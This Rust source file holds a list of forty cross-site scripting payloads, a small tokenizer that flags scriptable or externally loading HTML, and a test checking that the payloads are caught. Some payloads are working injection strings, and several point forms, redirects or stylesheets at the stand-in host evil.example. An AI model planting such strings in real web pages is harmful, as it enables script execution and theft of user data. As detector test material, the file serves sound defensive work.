//! Texts that a browser might run, and a small tokenizer that says whether a page would.

/// Forty texts that something might run.
pub const PAYLOADS: [&str; 40] = [
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "\"><script>alert(3)</script>",
    "'><script>alert(4)</script>",
    "<img src=x onerror=alert(5)>",
    "<svg onload=alert(6)>",
    "<svg/onload=alert(7)//",
    "\" onmouseover=alert(8) x=\"",
    "' onfocus=alert(9) autofocus='",
    "<iframe src=javascript:alert(10)>",
    "<a href=\"javascript:alert(11)\">x</a>",
    "<body onload=alert(12)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(13)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(14)>\">",
    "</textarea><script>alert(15)</script>",
    "</title><script>alert(16)</script>",
    "<!--><img src=x onerror=alert(17)>-->",
    "--><script>alert(18)</script>",
    "]]><script>alert(19)</script>",
    "<template shadowrootmode=open><script>alert(20)</script></template>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=a></form>",
    "<button formaction=javascript:alert(27)>x</button>",
    "<details open ontoggle=alert(28)>",
    "<video><source onerror=alert(29)></video>",
    "<input autofocus onfocus=alert(30)>",
    "<style>@import '//evil.example/a.css';</style>",
    "&lt;script&gt;alert(32)&lt;/script&gt;",
    "&#60;script&#62;alert(33)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(34)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(35)%3C/script%3E",
    "{{constructor.constructor('alert(36)')()}}",
    "${alert(37)}`;alert(37);//",
    "\u{2028}alert(38)\u{2029}",
    "＜script＞alert(39)＜/script＞",
    "\\\"};alert(40);//",
];

/// What a browser would run or fetch in `html` that is not ours: a small tokenizer of tags.
pub fn hostile(html: &str) -> Vec<String> {
    let mut wrong = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        if let Some(comment) = rest.strip_prefix("!--") {
            // A browser also ends a comment at once in these two cases.
            let end = if comment.starts_with('>') || comment.starts_with("->") { Some(0) } else { comment.find("-->") };
            rest = end.map_or("", |end| &comment[end..]);
            continue;
        }
        if !rest.starts_with(|c: char| c.is_ascii_alphabetic()) {
            continue;
        }
        let (name, attributes, after) = tag(rest);
        let ours = matches!(name.as_str(), "script" | "link" | "meta" | "form" | "input" | "button" | "details" | "a");
        let foreign = ["iframe", "object", "embed", "base", "template", "video", "source", "math", "img", "style"];
        if foreign.contains(&name.as_str()) || (name == "svg" && attributes.iter().any(|(n, _)| n == "onload")) {
            wrong.push(format!("<{name}>"));
        }
        for (attribute, value) in &attributes {
            let evil = value.contains("evil.example") || value.trim_start().to_lowercase().starts_with("javascript:");
            let acts = ["href", "src", "action", "formaction", "content", "data"].contains(&attribute.as_str());
            if attribute.starts_with("on") || (ours && acts && evil) {
                wrong.push(format!("<{name} {attribute}={value}>"));
            }
        }
        rest = after;
        if name == "script" {
            if !attributes.iter().any(|(n, v)| n == "nonce" && !v.is_empty()) {
                wrong.push("a script without the nonce".to_owned());
            }
            let end = rest.find("</script").unwrap_or(rest.len());
            if rest[..end].contains(['\u{2028}', '\u{2029}']) || rest[..end].contains("<!--") {
                wrong.push("a line separator or a comment in a script".to_owned());
            }
            rest = &rest[end..];
        } else if name == "textarea" || name == "title" {
            let end = rest.find(&format!("</{name}")).unwrap_or(rest.len());
            rest = &rest[end..];
        }
    }
    wrong
}

/// Name, attributes and what follows a tag.
fn tag(text: &str) -> (String, Vec<(String, String)>, &str) {
    let end = text.find(|c: char| c.is_whitespace() || c == '>' || c == '/').unwrap_or(text.len());
    let name = text[..end].to_lowercase();
    let (mut rest, mut attributes) = (&text[end..], Vec::new());
    loop {
        rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
        if rest.is_empty() || rest.starts_with('>') {
            return (name, attributes, rest.strip_prefix('>').unwrap_or(""));
        }
        let end = rest.find(|c: char| c.is_whitespace() || matches!(c, '=' | '>' | '/')).unwrap_or(rest.len());
        let attribute = rest[..end.max(1).min(rest.len())].to_lowercase();
        rest = &rest[end.max(1).min(rest.len())..];
        let mut value = String::new();
        if let Some(after) = rest.strip_prefix('=') {
            let quote = after.chars().next().filter(|c| matches!(c, '"' | '\''));
            let (inner, end) = match quote {
                Some(quote) => (&after[1..], after[1..].find(quote).unwrap_or(after.len() - 1)),
                None => (after, after.find(|c: char| c.is_whitespace() || c == '>').unwrap_or(after.len())),
            };
            value = inner[..end].to_owned();
            rest = &inner[end..];
            rest = quote.map_or(rest, |quote| rest.strip_prefix(quote).unwrap_or(rest));
        }
        attributes.push((attribute, value));
    }
}

#[test]
fn the_tokenizer_sees_what_a_browser_would_run() {
    for payload in &PAYLOADS[..31] {
        let page = format!("<p title=\"{payload}\" lang='{payload}'>{payload}</p>");
        assert!(!hostile(&page).is_empty(), "{payload}");
    }
    for text in ["</script><script>alert(2)</script>", "\u{2028}", "<!--<script>"] {
        assert!(!hostile(&format!("<script nonce=\"n\">x = '{text}'</script>")).is_empty(), "{text}");
    }
    assert_eq!(hostile("<p class=\"a\">&lt;img src=x onerror=1&gt; \" onclick=1</p>"), Vec::<String>::new());
}
